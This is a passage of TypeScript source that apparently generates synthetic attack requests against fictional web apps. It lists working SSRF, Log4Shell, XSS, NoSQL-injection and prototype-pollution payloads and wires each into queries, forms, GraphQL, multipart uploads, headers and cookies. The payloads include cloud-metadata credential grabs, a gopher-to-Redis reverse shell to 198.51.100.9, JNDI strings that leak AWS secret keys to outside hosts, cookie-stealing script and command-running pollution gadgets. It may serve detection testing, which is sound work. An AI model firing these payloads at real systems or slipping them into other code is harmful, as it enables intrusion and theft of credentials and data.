const SSRF_PAYLOADS = [
  'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
  'http://[fd00:ec2::254]/latest/meta-data/',
  'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
  'http://169.254.169.254/metadata/instance?api-version=2021-02-01',
  'http://100.100.100.200/latest/meta-data/ram/security-credentials/',
  'http://2852039166/latest/meta-data/',
  'http://0xA9FEA9FE/latest/user-data',
  'http://0251.0376.0251.0376/latest/meta-data/',
  'http://127.1:6379/',
  'http://[::ffff:127.0.0.1]:8080/admin',
  'http://localhost:2375/containers/json',
  'https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets',
  'gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2464%0D%0A%0A%0A%2A%2F1%20%2A%20%2A%20%2A%20%2A%20bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F198.51.100.9%2F4444%200%3E%261%0A%0A%0A%0D%0A',
  'dict://127.0.0.1:11211/stats',
  'file:///etc/passwd',
  'http://169.254.169.254.nip.io/latest/meta-data/',
  'http://cdn.bazaarly.com@169.254.169.254/latest/meta-data/',
  'http://127.0.0.1.nip.io:9200/_cat/indices',
  'http://0.0.0.0:22/',
  'http://10.0.0.1:8500/v1/agent/self',
  'http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/',
  'http://⑯⑨。②⑤④。⑯⑨。②⑤④/latest/meta-data/',
  'http://169.254.170.2/v2/credentials/',
  'netdoc:///etc/passwd',
  'http://localhost:8080/actuator/env',
  'http://192.168.0.1/cgi-bin/luci',
  'ldap://127.0.0.1:389/dc=internal',
  'http://0x7f000001:5984/_all_dbs',
];

const LOG4J_PAYLOADS = [
  '${jndi:ldap://198.51.100.23:1389/a}',
  '${jndi:${lower:l}${lower:d}a${lower:p}://x9k2.oast.fun/a}',
  '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.5/o}',
  '${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//q1w2.oast.me/a}',
  '${jndi:dns://${hostName}.c7k2x.oast.pro}',
  '${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.exfil.oast.site/x}',
  '${${upper:j}ndi:${upper:l}dap://203.0.113.44/z}',
  '${jndi:rmi://198.51.100.9:1099/Exploit}',
  '${${lower:jnd}${lower:i}:ldaps://x9k2.oast.fun/a}',
  '${jndi:ldap://127.0.0.1#evil.oast.fun:1389/a}',
  '${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x9k2.oast.fun/a}',
  "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://198.51.100.4/a}",
  '${jndi:iiop://198.51.100.4/a}',
  '${jn${lower:d}i:l${lower:d}ap://${sys:java.version}.oast.live/a}',
  '${${::-$}{::-j}ndi:ldap://203.0.113.5/a}',
  '${jndi:ldap://${sys:user.name}.${env:HOSTNAME}.q1w2.oast.me/}',
  '${${base64:JHtqbmRpOmxkYXA6Ly8yMDMuMC4xMTMuNS9hfQ==}}',
  '${jndi:nis://198.51.100.23/a}',
];

const XSS_PAYLOADS = [
  '<script>alert(document.domain)</script>',
  "<img src=x onerror=fetch('//x9k2.oast.fun/'+document.cookie)>",
  '<svg/onload=alert`1`>',
  '"><svg onload=confirm(1)>',
  'javascript:alert(document.cookie)//',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<details open ontoggle=alert(1)>',
  '<a href="jAvAsCrIpT&colon;alert(1)">click me</a>',
  '<body onpageshow=alert(1)>',
  "'-alert(1)-'",
  "</textarea><script>import('//x9k2.oast.fun/p.js')</script>",
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<video><source onerror="eval(atob(\'YWxlcnQoMSk=\'))">',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<script src=//x9k2.oast.fun/x.js></script>',
  '<a href="data:text/html,<script>alert(1)</script>">open</a>',
  '<img src=1 onerror=\\u0061lert(1)>',
  '<div style="background:url(javascript:alert(1))">',
  '<form><button formaction=javascript:alert(1)>go</button></form>',
  '<marquee onstart=alert(1)>',
  '"><img src=x id=dmFyIGE9ZG9jdW1lbnQuY3JlYXRlRWxlbWVudCgic2NyaXB0Iik7 onerror=eval(atob(this.id))>',
  '<svg><script>alert&#40;1&#41;</script>',
  '<iframe src="javascript:alert(`xss`)">',
];

const NOSQL_PAYLOADS: Record<string, unknown>[] = [
  { $ne: null },
  { $gt: '' },
  { $regex: '^adm', $options: 'i' },
  { $where: 'sleep(5000) || true' },
  { $in: ['admin', 'root', 'superuser'] },
  { $exists: true },
  { $nin: [] },
  { $regex: '.*' },
  { $where: "this.role == 'admin' && this.password.match(/^a/)" },
  { $expr: { $gt: [{ $strLenCP: '$password' }, 0] } },
  { $function: { body: 'function() { sleep(5000); return true; }', args: [], lang: 'js' } },
  { $ne: 'x', $gt: '' },
  { $lt: '~' },
  { $not: { $eq: 'locked' } },
];

const PP_PAYLOADS: string[] = [
  '{"__proto__":{"isAdmin":true}}',
  '{"__proto__":{"role":"admin","verified":true}}',
  '{"constructor":{"prototype":{"isAdmin":true}}}',
  '{"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require(\'child_process\').execSync(\'id\').toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}',
  '{"__proto__":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'id\');x"}}',
  '{"__proto__":{"sourceURL":"\\u2028\\u2029\\nglobal.process.mainModule.require(\'child_process\').execSync(\'id\')"}}',
  '{"__proto__":{"block":{"type":"Text","line":"process.mainModule.require(\'child_process\').execSync(\'id\')"}}}',
  '{"__proto__":{"status":510}}',
  '{"__proto__":{"json spaces":10}}',
  '{"__proto__":{"exposedHeaders":["x-polluted"]}}',
  '{"constructor":{"prototype":{"allowedTags":["script","iframe"]}}}',
  '{"__proto__":{"polluted":"h8-canary"}}',
  '{"__proto__":{"escapeFunction":"JSON.stringify; process.mainModule.require(\'child_process\').exec(\'id\')","client":true}}',
  '{"__proto__":{"isAdmin":true,"permissions":["*"]}}',
];

// --- carriers: query strings, forms, GraphQL, multipart ---------------------------------------------------

interface QTarget {
  app: string;
  host: string;
  page: string;
  path: string;
  params: Record<string, string>;
  slots: string[];
}
const q = (
  app: string,
  host: string,
  page: string,
  path: string,
  params: Record<string, string>,
  slots: string[],
): QTarget => ({ app, host, page, path, params, slots });

const TEXT_Q: QTarget[] = [
  q(
    'help',
    HELP,
    '/agent/search',
    '/api/v2/search.json',
    { query: 'status:open refund', page: '1', per_page: '25', sort_by: 'updated_at' },
    ['query', 'sort_by'],
  ),
  q(
    'ci',
    CI,
    '/search',
    '/api/v4/search',
    { scope: 'jobs', search: 'timeout', ref: 'main', order_by: 'created_at' },
    ['search', 'ref', 'order_by'],
  ),
  q(
    'health',
    HEALTH,
    '/find-care',
    '/api/v1/providers/search',
    { q: 'dermatology', specialty: 'derm', radius: '10mi' },
    ['q', 'specialty'],
  ),
  q('learn', LEARN, '/community', '/api/forum/search', { q: 'left join', sort: 'newest', page: '1' }, [
    'q',
    'sort',
  ]),
  q('social', SOCIAL, '/explore', '/api/v1/search', { q: '#sourdough', type: 'statuses', limit: '20' }, [
    'q',
    'type',
  ]),
  q(
    'shop',
    SHOP,
    '/',
    '/api/v3/search',
    { q: 'ceramic mug', sort: '-rating', category: 'home/kitchen', page: '1' },
    ['q', 'sort', 'category'],
  ),
  q('bi', BI, '/queries', '/api/v1/queries', { q: 'revenue', order: '-updated_at', page: '1' }, [
    'q',
    'order',
  ]),
  q(
    'l10n',
    L10N,
    '/editor',
    '/api/v2/projects/prj_Qx81LmZa0P/keys',
    { q: 'cart', locale: 'de', limit: '50' },
    ['q', 'locale'],
  ),
  q(
    'bi',
    BI,
    '/embed',
    '/embed/dashboards/Xq81LmZa0PaB',
    { p_region: 'EMEA', p_date_range: '2026-01-01--2026-03-31' },
    ['p_region'],
  ),
  q('shop', SHOP, '/orders', '/api/v3/orders', { status: 'shipped', since: '2026-01-01', id: '58213044' }, [
    'id',
    'status',
  ]),
];
const URL_Q: QTarget[] = [
  q('social', SOCIAL, '/compose', '/api/v1/link_previews', { url: 'https://example.com' }, ['url']),
  q('shop', SHOP, '/', '/api/v3/image-proxy', { src: 'https://cdn.bazaarly.com/a.png', w: '400' }, ['src']),
  q(
    'help',
    HELP,
    '/agent',
    '/api/v2/oembed',
    { url: 'https://www.youtube.com/watch?v=abc', maxwidth: '600' },
    ['url'],
  ),
  q(
    'bi',
    BI,
    '/data/upload',
    '/api/v1/import/csv',
    { source_url: 'https://example.com/data.csv', delimiter: ',' },
    ['source_url'],
  ),
  q(
    'health',
    HEALTH,
    '/documents',
    '/api/v1/documents/fetch',
    { url: 'https://records.partner-clinic.org/d/1', type: 'pdf' },
    ['url'],
  ),
  q(
    'ci',
    CI,
    '/acme/web/-/settings',
    '/api/v4/badges/render',
    { link_url: 'https://ci.forgeline.dev/acme/web', image_url: 'https://img.shields.io/badge/x-y-green' },
    ['image_url'],
  ),
  q(
    'l10n',
    L10N,
    '/screenshots',
    '/api/v2/screenshots/capture',
    { page_url: 'https://staging.acme.io/', viewport: '1280x800' },
    ['page_url'],
  ),
  q(
    'learn',
    LEARN,
    '/login',
    '/oauth/callback',
    { code: 'x8Kq2', state: 'af31', redirect_uri: 'https://learn.codepath.academy/dashboard' },
    ['redirect_uri'],
  ),
];
const FILE_Q: QTarget[] = [
  q(
    'help',
    HELP,
    '/agent/tickets/10233',
    '/api/v2/attachments/download',
    { ticket: '10233', file: 'screenshot.png' },
    ['file'],
  ),
  q(
    'ci',
    CI,
    '/acme/web/-/jobs/88213',
    '/api/v4/jobs/88213/artifacts/raw',
    { artifact_path: 'coverage/index.html' },
    ['artifact_path'],
  ),
  q('l10n', L10N, '/export', '/api/v2/projects/prj_Qx81LmZa0P/download', { locale: 'de', format: 'json' }, [
    'locale',
  ]),
  q('bi', BI, '/reports', '/api/v1/reports/preview', { template: 'weekly.html', dashboard: '412' }, [
    'template',
  ]),
  q('learn', LEARN, '/sandbox', '/api/exercises/412/files', { name: 'main.py' }, ['name']),
  q('shop', SHOP, '/', '/static/theme', { asset: 'css/main.css', v: '1.8.2' }, ['asset']),
  q('health', HEALTH, '/documents', '/api/v1/documents/view', { file: 'uploads/2026/03/IMG_4471.PNG' }, [
    'file',
  ]),
];
const CMD_Q: QTarget[] = [
  q('ci', CI, '/admin/runners', '/api/v4/tools/ping', { host: 'runner-3.internal', count: '3' }, ['host']),
  q('help', HELP, '/admin/diagnostics', '/api/v2/diagnostics/dns', { domain: 'acme-corp.com', type: 'MX' }, [
    'domain',
  ]),
  q('shop', SHOP, '/seller', '/api/v3/images/thumbnail', { file: 'mug.jpg', size: '400x400' }, [
    'file',
    'size',
  ]),
  q('learn', LEARN, '/sandbox', '/api/sandbox/exec', { lang: 'bash', file: 'main.sh' }, ['file']),
  q('l10n', L10N, '/integrations/git', '/api/v2/git/branches', { repo: 'acme/mobile-app', branch: 'main' }, [
    'branch',
  ]),
  ...TEXT_Q.slice(0, 3),
];

function buildQuery(t: QTarget, slot: string, encodedValue: string): string {
  const parts: string[] = [];
  let placed = false;
  for (const [k, v] of Object.entries(t.params)) {
    if (k === slot) {
      parts.push(`${encodeURIComponent(k)}=${encodedValue}`);
      placed = true;
    } else parts.push(`${encodeURIComponent(k)}=${encodeURIComponent(v)}`);
  }
  if (!placed) parts.push(`${encodeURIComponent(slot)}=${encodedValue}`);
  return `${t.path}?${parts.join('&')}`;
}
function qEncode(p: string): string {
  // attack tools send pre-encoded payloads as-is and encode the rest
  return /%[0-9A-Fa-f]{2}/.test(p)
    ? p.replace(/[^A-Za-z0-9%._~\-/:]/g, (c) => encodeURIComponent(c))
    : encodeURIComponent(p);
}

interface FormTarget {
  app: string;
  host: string;
  page: string;
  path: string;
  fields: [string, string][];
  slots: string[];
}
const f = (
  app: string,
  host: string,
  page: string,
  path: string,
  fields: [string, string][],
  slots: string[],
): FormTarget => ({ app, host, page, path, fields, slots });
const TEXT_FORMS: FormTarget[] = [
  f(
    'help',
    HELP,
    '/satisfaction/x',
    '/satisfaction/Kq2LmZx0PaaB1cD3eF4gH5',
    [
      ['authenticity_token', 'dGhpcyBpcyBub3QgYSByZWFsIHRva2Vu'],
      ['rating', 'bad'],
      ['comment', 'Slow reply'],
      ['commit', 'Submit'],
    ],
    ['comment'],
  ),
  f(
    'health',
    HEALTH,
    '/intake',
    '/intake/submit',
    [
      ['csrf', 'aW50YWtlLWNzcmY'],
      ['meds', 'Lisinopril 10 mg'],
      ['allergies', 'Penicillin'],
      ['consent', 'on'],
    ],
    ['meds', 'allergies'],
  ),
  f(
    'learn',
    LEARN,
    '/login',
    '/login',
    [
      ['email', 'student@gmail.com'],
      ['password', 'hunter2!'],
      ['remember_me', '1'],
    ],
    ['email', 'password'],
  ),
  f(
    'shop',
    SHOP,
    '/shop/oakandiron',
    '/contact-seller',
    [
      ['listing_id', '802211934'],
      ['message', 'Is this real leather?'],
    ],
    ['message'],
  ),
  f(
    'shop',
    SHOP,
    '/checkout/address',
    '/checkout/address',
    [
      ['_csrf', 'Y2hlY2tvdXQ'],
      ['name', 'Dana Kim'],
      ['line1', '12 Main St'],
      ['city', 'Dublin'],
      ['postal', 'D02 X285'],
    ],
    ['name', 'line1', 'city'],
  ),
  f(
    'l10n',
    L10N,
    '/invite',
    '/invite/accept',
    [
      ['token', 'Qx81LmZa0PaB'],
      ['display_name', 'Ngozi'],
      ['languages', 'en,yo'],
      ['bio', 'Translator'],
    ],
    ['display_name', 'bio'],
  ),
  f(
    'social',
    SOCIAL,
    '/settings/profile',
    '/settings/profile',
    [
      ['authenticity_token', 'cHJvZmlsZQ'],
      ['account[display_name]', 'Zoë'],
      ['account[note]', 'Backend dev'],
    ],
    ['account[display_name]', 'account[note]'],
  ),
  f(
    'bi',
    BI,
    '/login',
    '/login',
    [
      ['username', 'analyst'],
      ['password', 'S3cure!pass'],
      ['next', '/dashboards'],
    ],
    ['username', 'next'],
  ),
];
const URL_FORMS: FormTarget[] = [
  f(
    'ci',
    CI,
    '/acme/web/-/hooks',
    '/api/v4/projects/412/hooks',
    [
      ['url', 'https://chat.acme.io/hooks/ci'],
      ['push_events', 'true'],
      ['token', 'c2VjcmV0'],
    ],
    ['url'],
  ),
  f('social', SOCIAL, '/compose', '/api/v1/link_previews', [['url', 'https://example.com']], ['url']),
  f(
    'help',
    HELP,
    '/admin/webhooks',
    '/admin/webhooks',
    [
      ['webhook[name]', 'CRM'],
      ['webhook[endpoint]', 'https://crm.acme-corp.com/h'],
      ['webhook[http_method]', 'POST'],
    ],
    ['webhook[endpoint]'],
  ),
  f(
    'shop',
    SHOP,
    '/seller/listings/edit',
    '/seller/listings/802211934/images/import',
    [
      ['image_url', 'https://images.unsplash.com/photo-1'],
      ['rank', '1'],
    ],
    ['image_url'],
  ),
];
const FILE_FORMS: FormTarget[] = [
  f(
    'l10n',
    L10N,
    '/export',
    '/api/v2/projects/prj_Qx81LmZa0P/download',
    [
      ['locale', 'de'],
      ['format', 'json'],
    ],
    ['locale'],
  ),
  f(
    'bi',
    BI,
    '/reports',
    '/api/v1/reports/render',
    [
      ['template', 'weekly.html'],
      ['format', 'pdf'],
    ],
    ['template'],
  ),
  f(
    'help',
    HELP,
    '/agent/tickets/10233',
    '/attachments/download',
    [
      ['ticket', '10233'],
      ['file', 'screenshot.png'],
    ],
    ['file'],
  ),
  f('learn', LEARN, '/sandbox', '/api/exercises/412/files/open', [['name', 'main.py']], ['name']),
];
const CMD_FORMS: FormTarget[] = [
  f(
    'ci',
    CI,
    '/admin/runners',
    '/api/v4/tools/ping',
    [
      ['host', 'runner-3.internal'],
      ['count', '3'],
    ],
    ['host'],
  ),
  f(
    'help',
    HELP,
    '/admin/diagnostics',
    '/admin/diagnostics/dns',
    [
      ['domain', 'acme-corp.com'],
      ['type', 'MX'],
    ],
    ['domain'],
  ),
  f(
    'shop',
    SHOP,
    '/seller/tools',
    '/seller/tools/convert',
    [
      ['filename', 'mug.heic'],
      ['format', 'webp'],
    ],
    ['filename', 'format'],
  ),
  f(
    'l10n',
    L10N,
    '/integrations/git',
    '/integrations/git/sync',
    [
      ['branch', 'main'],
      ['path', 'locales/'],
    ],
    ['branch'],
  ),
  ...TEXT_FORMS.slice(0, 2),
];

interface GqlOp {
  app: string;
  host: string;
  page: string;
  path: string;
  op: string;
  query: string;
  vars: (v: unknown) => Record<string, unknown>;
}
const g = (
  app: string,
  host: string,
  path: string,
  op: string,
  query: string,
  vars: (v: unknown) => Record<string, unknown>,
): GqlOp => ({ app, host, page: '/', path, op, query, vars });
const TEXT_GQL: GqlOp[] = [
  g(
    'help',
    HELP,
    '/graphql',
    'CreateTicket',
    'mutation CreateTicket($input: CreateTicketInput!) { createTicket(input: $input) { ticket { id } errors { message } } }',
    (v) => ({ input: { subject: v, body: 'Please see above', priority: 'NORMAL' } }),
  ),
  g(
    'social',
    SOCIAL,
    '/graphql',
    'CreatePost',
    'mutation CreatePost($input: CreatePostInput!) { createPost(input: $input) { post { id url } } }',
    (v) => ({ input: { text: v, visibility: 'PUBLIC' } }),
  ),
  g(
    'shop',
    SHOP,
    '/graphql',
    'ProductSearch',
    'query ProductSearch($q: String!, $first: Int) { search(query: $q, first: $first) { nodes { id title } } }',
    (v) => ({ q: v, first: 20 }),
  ),
  g(
    'l10n',
    L10N,
    '/graphql',
    'SaveTranslation',
    'mutation SaveTranslation($input: TranslationInput!) { saveTranslation(input: $input) { translation { id } } }',
    (v) => ({ input: { keyId: 'key_Qx81LmZa', locale: 'de', value: v } }),
  ),
  g(
    'health',
    HEALTH,
    '/graphql',
    'RequestRefill',
    'mutation RequestRefill($input: RefillInput!) { requestRefill(input: $input) { id status } }',
    (v) => ({ input: { medicationRequestId: 'MedicationRequest/4471', comment: v } }),
  ),
  g(
    'bi',
    BI,
    '/graphql',
    'DashboardWidgets',
    'query DashboardWidgets($slug: String!, $filters: [FilterInput!]) { dashboard(slug: $slug) { widgets { id data(filters: $filters) { rows } } } }',
    (v) => ({ slug: 'exec-kpis', filters: [{ field: 'region', op: 'IN', values: [v] }] }),
  ),
  g(
    'learn',
    LEARN,
    '/graphql',
    'CourseProgress',
    'query CourseProgress($slug: String!) { course(slug: $slug) { title modules { title } } }',
    (v) => ({ slug: v }),
  ),
  g(
    'ci',
    CI,
    '/api/graphql',
    'getPipelineJobs',
    'query getPipelineJobs($fullPath: ID!, $iid: ID!) { project(fullPath: $fullPath) { pipeline(iid: $iid) { id status } } }',
    (v) => ({ fullPath: 'acme/web', iid: v }),
  ),
];
const URL_GQL: GqlOp[] = [
  g(
    'help',
    HELP,
    '/graphql',
    'CreateWebhook',
    'mutation CreateWebhook($input: WebhookInput!) { createWebhook(input: $input) { webhook { id status } } }',
    (v) => ({ input: { name: 'CRM sync', endpoint: v, events: ['TICKET_CREATED'] } }),
  ),
  g(
    'social',
    SOCIAL,
    '/graphql',
    'LinkPreview',
    'query LinkPreview($url: URL!) { linkPreview(url: $url) { title description image } }',
    (v) => ({ url: v }),
  ),
  g(
    'shop',
    SHOP,
    '/graphql',
    'ImportImage',
    'mutation ImportImage($listingId: ID!, $src: String!) { listingImageImport(listingId: $listingId, src: $src) { image { id } } }',
    (v) => ({ listingId: 'gid://bazaarly/Listing/802211934', src: v }),
  ),
  g(
    'bi',
    BI,
    '/graphql',
    'TestDataSource',
    'mutation TestDataSource($options: JSON!) { testDataSource(type: "json_api", options: $options) { ok message } }',
    (v) => ({ options: { url: v, timeout: 5 } }),
  ),
];
const FILE_GQL: GqlOp[] = [
  g(
    'l10n',
    L10N,
    '/graphql',
    'ExportBundle',
    'query ExportBundle($project: ID!, $path: String!) { exportFile(project: $project, path: $path) { content } }',
    (v) => ({ project: 'prj_Qx81LmZa0P', path: v }),
  ),
  g(
    'bi',
    BI,
    '/graphql',
    'RenderReport',
    'mutation RenderReport($template: String!) { renderReport(template: $template, format: PDF) { url } }',
    (v) => ({ template: v }),
  ),
  g(
    'ci',
    CI,
    '/api/graphql',
    'ArtifactFile',
    'query ArtifactFile($jobId: ID!, $path: String!) { job(id: $jobId) { artifactFile(path: $path) { rawPath size } } }',
    (v) => ({ jobId: 'gid://forgeline/Ci::Build/88213', path: v }),
  ),
];
const CMD_GQL: GqlOp[] = [
  g(
    'ci',
    CI,
    '/api/graphql',
    'RunPipeline',
    'mutation RunPipeline($input: PipelineCreateInput!) { pipelineCreate(input: $input) { pipeline { id } errors } }',
    (v) => ({ input: { projectPath: 'acme/web', ref: v, variables: [] } }),
  ),
  g(
    'ci',
    CI,
    '/api/graphql',
    'PingRunner',
    'mutation PingRunner($host: String!) { runnerPing(host: $host) { reachable latencyMs } }',
    (v) => ({ host: v }),
  ),
  g(
    'l10n',
    L10N,
    '/graphql',
    'GitSync',
    'mutation GitSync($branch: String!) { gitSync(project: "prj_Qx81LmZa0P", branch: $branch) { status } }',
    (v) => ({ branch: v }),
  ),
  ...TEXT_GQL.slice(0, 2),
];
const NOSQL_GQL: GqlOp[] = [
  g(
    'help',
    HELP,
    '/graphql',
    'Tickets',
    'query Tickets($filter: JSON) { tickets(filter: $filter, first: 50) { nodes { id subject requester { email } } } }',
    (v) => ({ filter: { requester_id: v } }),
  ),
  g(
    'learn',
    LEARN,
    '/graphql',
    'Login',
    'mutation Login($email: JSON!, $password: JSON!) { login(email: $email, password: $password) { token } }',
    (v) => ({ email: 'admin@codepath.academy', password: v }),
  ),
  g(
    'shop',
    SHOP,
    '/graphql',
    'Orders',
    'query Orders($where: JSON) { orders(where: $where) { id total customer { email } } }',
    (v) => ({ where: { customer_id: v, status: 'paid' } }),
  ),
];
const PP_GQL: GqlOp[] = [
  g(
    'social',
    SOCIAL,
    '/graphql',
    'UpdatePrefs',
    'mutation UpdatePrefs($prefs: JSON!) { updatePreferences(prefs: $prefs) { ok } }',
    (v) => ({ prefs: v }),
  ),
  g(
    'bi',
    BI,
    '/graphql',
    'SaveChart',
    'mutation SaveChart($id: ID!, $options: JSON!) { updateVisualization(id: $id, options: $options) { id } }',
    (v) => ({ id: '4471', options: v }),
  ),
  g(
    'l10n',
    L10N,
    '/graphql',
    'UpdateLocale',
    'mutation UpdateLocale($code: String!, $settings: JSON!) { updateLocale(code: $code, settings: $settings) { code } }',
    (v) => ({ code: 'ar', settings: v }),
  ),
];

// --- multipart carriers -----------------------------------------------------------------------------------

interface Endpoint {
  app: string;
  host: string;
  page: string;
  path: string;
}
type MpBuilder = (p: string) => { ep: Endpoint; parts: Part[] };
const ep = (app: string, host: string, page: string, path: string): Endpoint => ({ app, host, page, path });
const safeFilename = (p: string): string => p.replace(/"/g, '%22').replace(/[\r\n]/g, '');
const csvCell = (p: string): string => `"${p.replace(/"/g, '""')}"`;

const MP_TEXT: MpBuilder = (p) => ({
  ep: ep('help', HELP, '/agent/tickets/10233', '/api/v2/uploads'),
  parts: [
    { name: 'ticket_id', content: '10233' },
    { name: 'description', content: p },
    { name: 'file', filename: 'notes.txt', type: 'text/plain', content: 'See description.' },
  ],
});
const MP_MEDIA: MpBuilder = (p) => ({
  ep: ep('social', SOCIAL, '/home', '/api/v2/media'),
  parts: [
    { name: 'file', filename: 'IMG_0042.png', type: 'image/png', content: pngish() },
    { name: 'description', content: p },
    { name: 'focus', content: '0.0,0.0' },
  ],
});
const MP_CSV: MpBuilder = (p) => ({
  ep: ep('shop', SHOP, '/seller/tools/import', '/api/v3/listings/import'),
  parts: [
    { name: 'mode', content: 'upsert' },
    {
      name: 'file',
      filename: 'listings.csv',
      type: 'text/csv',
      content: `sku,title,price,quantity\nMUG-12-SAGE,"Ceramic Mug 12oz",28.00,14\nMUG-12-RED,${csvCell(p)},28.00,3\n`,
    },
  ],
});
const MP_PO: MpBuilder = (p) => ({
  ep: ep('l10n', L10N, '/upload', '/api/v2/projects/prj_Qx81LmZa0P/uploads'),
  parts: [
    { name: 'locale', content: 'de' },
    { name: 'format', content: 'gettext' },
    {
      name: 'file',
      filename: 'de.po',
      type: 'text/x-gettext-translation',
      content: `msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n\nmsgid "Welcome back"\nmsgstr "${p.replace(/\\/g, '\\\\').replace(/"/g, '\\"').replace(/\n/g, '\\n')}"\n`,
    },
  ],
});
const MP_FILENAME: MpBuilder = (p) => ({
  ep: pick([
    ep('help', HELP, '/agent/tickets/10233', '/api/v2/uploads'),
    ep('health', HEALTH, '/documents/upload', '/api/v1/documents'),
    ep('ci', CI, '/acme/web/-/issues/412', '/api/v4/projects/412/uploads'),
  ]),
  parts: [
    { name: 'category', content: 'attachment' },
    { name: 'file', filename: safeFilename(p), type: 'application/octet-stream', content: 'GIF89a;\n' },
  ],
});
const MP_FIELD =
  (name: string, e: Endpoint): MpBuilder =>
  (p) => ({
    ep: e,
    parts: [
      { name, content: p },
      { name: 'format', content: pick(['csv', 'json', 'pdf']) },
    ],
  });

// --- family specs -----------------------------------------------------------------------------------------

interface StrSpec {
  family: string;
  payloads: string[];
  targets: Target[];
  qt: QTarget[];
  forms: FormTarget[];
  gql: GqlOp[];
  headers: string[];
  headerPayloads?: string[];
  cookies: string[];
  mp: MpBuilder[];
}

const STR_SPECS: StrSpec[] = [
  {
    family: 'sql',
    payloads: SQL_PAYLOADS,
    targets: TEXT_TARGETS,
    qt: TEXT_Q,
    forms: TEXT_FORMS,
    gql: TEXT_GQL,
    headers: ['x-forwarded-for', 'user-agent', 'referer', 'x-tenant-id', 'x-client-id'],
    cookies: ['TrackingId', 'session_id', 'cart_id', 'lang'],
    mp: [MP_TEXT, MP_CSV, MP_FIELD('listing_id', ep('shop', SHOP, '/seller', '/api/v3/listings/images'))],
  },
  {
    family: 'template',
    payloads: TEMPLATE_PAYLOADS,
    targets: TEXT_TARGETS,
    qt: TEXT_Q,
    forms: TEXT_FORMS,
    gql: TEXT_GQL,
    headers: ['referer', 'user-agent', 'x-display-name', 'x-forwarded-host'],
    cookies: ['greeting', 'theme', 'display_name'],
    mp: [MP_TEXT, MP_PO, MP_MEDIA],
  },
  {
    family: 'command',
    payloads: COMMAND_PAYLOADS,
    targets: CMD_TARGETS,
    qt: CMD_Q,
    forms: CMD_FORMS,
    gql: CMD_GQL,
    headers: ['user-agent', 'x-forwarded-for', 'x-backup-host', 'referer'],
    headerPayloads: SHELLSHOCK,
    cookies: ['lang', 'tz', 'branch'],
    mp: [
      MP_FILENAME,
      MP_FIELD('target_format', ep('shop', SHOP, '/seller', '/api/v3/listings/images/convert')),
      MP_FIELD('host', ep('ci', CI, '/admin/runners', '/api/v4/tools/traceroute')),
    ],
  },
  {
    family: 'path-traversal',
    payloads: PATH_PAYLOADS,
    targets: FILE_TARGETS,
    qt: FILE_Q,
    forms: FILE_FORMS,
    gql: FILE_GQL,
    headers: ['x-template', 'x-file-path', 'x-locale-file'],
    cookies: ['template', 'locale', 'theme_path'],
    mp: [
      MP_FILENAME,
      MP_FIELD('path', ep('ci', CI, '/acme/web/-/jobs/88213', '/api/v4/jobs/88213/artifacts/extract')),
      MP_FIELD('output_path', ep('l10n', L10N, '/export', '/api/v2/projects/prj_Qx81LmZa0P/exports')),
    ],
  },
  {
    family: 'ssrf',
    payloads: SSRF_PAYLOADS,
    targets: URL_TARGETS,
    qt: URL_Q,
    forms: URL_FORMS,
    gql: URL_GQL,
    headers: ['x-callback-url', 'x-wap-profile', 'x-webhook-url', 'referer'],
    cookies: ['return_to', 'avatar_src'],
    mp: [
      MP_FIELD('source_url', ep('bi', BI, '/data/upload', '/api/v1/uploads/csv')),
      MP_FIELD('image_url', ep('shop', SHOP, '/seller', '/api/v3/listings/images')),
      (p) => ({
        ep: ep('bi', BI, '/reports', '/api/v1/reports/html-to-pdf'),
        parts: [
          {
            name: 'file',
            filename: 'report.html',
            type: 'text/html',
            content: `<html><body><h1>Q1 report</h1><iframe src="${p}" width="800" height="600"></iframe></body></html>`,
          },
        ],
      }),
    ],
  },
  {
    family: 'log4shell',
    payloads: LOG4J_PAYLOADS,
    targets: TEXT_TARGETS,
    qt: TEXT_Q,
    forms: TEXT_FORMS,
    gql: TEXT_GQL,
    headers: [
      'user-agent',
      'x-api-version',
      'x-forwarded-for',
      'referer',
      'x-request-id',
      'authorization',
      'true-client-ip',
      'x-correlation-id',
    ],
    cookies: ['JSESSIONID', 'remember_me', 'lang'],
    mp: [MP_TEXT, MP_CSV, MP_MEDIA],
  },
  {
    family: 'xss',
    payloads: XSS_PAYLOADS,
    targets: TEXT_TARGETS,
    qt: TEXT_Q,
    forms: TEXT_FORMS,
    gql: TEXT_GQL,
    headers: ['referer', 'user-agent', 'x-forwarded-for', 'x-display-name'],
    cookies: ['username', 'last_search', 'flash'],
    mp: [
      MP_MEDIA,
      MP_FILENAME,
      (p) => ({
        ep: ep('social', SOCIAL, '/settings/profile', '/api/v1/accounts/avatar'),
        parts: [
          {
            name: 'avatar',
            filename: 'avatar.svg',
            type: 'image/svg+xml',
            content: `<?xml version="1.0" standalone="no"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="128" height="128"><circle cx="64" cy="64" r="60" fill="#7c3aed"/><foreignObject width="128" height="128"><div xmlns="http://www.w3.org/1999/xhtml">${p}</div></foreignObject></svg>`,
          },
        ],
      }),
    ],
  },
];

const TECHS = [
  'plain',
  'nested',
  'key',
  'array',
  'unicode-escape',
  'json-in-string',
